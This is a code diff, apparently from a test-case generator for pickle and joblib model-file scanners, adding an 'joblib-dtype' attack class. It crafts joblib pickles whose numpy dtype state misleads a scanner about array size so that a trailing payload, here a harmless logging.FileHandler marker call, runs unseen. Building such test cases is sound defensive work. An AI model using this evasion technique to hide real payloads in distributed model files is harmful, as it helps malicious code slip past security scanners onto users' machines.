@@ -785,7 +785,48 @@ def cls_zip_headers(rng: random.Random) -> Attack:
     return Attack("zip-headers", filename, data, target, f"{kind}/m{m.method}/{note}")
 
 
+def joblib_dtype_state_file(descr: str, state: bytes, count: int, real: int, seen: int) -> bytes:
+    """A joblib pickle whose one array has ``count`` items of ``real`` bytes as numpy reads the dtype (after its
+    BUILD ``state``), filled so that a reader that takes ``seen`` bytes an item meets a STOP and then invalid
+    bytes (trailing data); after the real array the payload runs."""
+    dtype = call(glob("numpy", "dtype"), ustr(descr), b"\x89\x88") + (state + b"b" if state else b"")
+    header = b"}(" + ustr("subclass") + glob("numpy", "ndarray") + ustr("shape") + b"K" + bytes([count]) \
+        + b"\x85" + ustr("order") + ustr("C") + ustr("dtype") + dtype + ustr("allow_mmap") + b"\x89u"
+    array = b"\x00" * (real * count)
+    if seen < real:
+        array = b"\x00" * (seen * count) + b"." + b"\xff" * (real * count - seen * count - 1)
+    tail = b"0" + call(glob("logging", "FileHandler"), sstr(MARKER)) + b"."
+    return b"\x80\x04" + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + header + b"b" + array + tail
+
+
+def _state(version: int | None, size: int, elsize: int, flags: int) -> bytes:
+    def i4(v: int) -> bytes:
+        return b"J" + struct.pack("<i", v)
+    parts = {5: [ustr("|"), b"N", b"N", i4(elsize), i4(1)],
+             6: [i4(version or 0), ustr("|"), b"N", b"N", i4(elsize), i4(1)],
+             7: [i4(version or 0), ustr("|"), b"N", b"N", b"N", i4(elsize), i4(1)],
+             8: [i4(version or 3), ustr("|"), b"N", b"N", b"N", i4(elsize), i4(1), i4(flags)],
+             9: [i4(version or 3), ustr("|"), b"N", b"N", b"N", i4(elsize), i4(1), i4(flags), b"N"]}[size]
+    return b"(" + b"".join(parts) + b"t"
+
+
+def cls_joblib_dtype(rng: random.Random) -> Attack:
+    """NumpyArrayWrapper dtypes whose size numpy takes from the BUILD state in its several historic forms."""
+    descr, own = rng.choice((("V4", 4), ("S4", 4), ("U1", 4), ("u1", 1), ("<f8", 8), ("V8", 8), ("|b1", 1)))
+    length = rng.choice((5, 6, 7, 8, 9))
+    elsize = rng.choice((12, 16))
+    version = rng.choice((0, 1, 2, 3, 4)) if length >= 6 else None
+    flexible = descr[-2] in "SUVa" or descr[0] in "SUVa"
+    real = elsize if flexible else own
+    count = rng.randrange(1, 5)
+    data = joblib_dtype_state_file(descr, _state(version, length, elsize, 0), count, real,
+                                   rng.choice((own, 1)))  # the type's own size, or the alignment
+    return Attack("joblib-dtype", rng.choice(("m.joblib", "m.pkl")), data, "joblib",
+                  f"{descr}/len{length}/v{version}/elsize{elsize}")
+
+
 CLASSES: dict[str, Callable[[random.Random], Attack]] = {
+    "joblib-dtype": cls_joblib_dtype,
     "zip-headers": cls_zip_headers,
     "joblib-layout": cls_joblib_layout,
     "pickle-machine": cls_pickle, "stacked": cls_stacked, "persid": cls_persid, "frames": cls_frames,
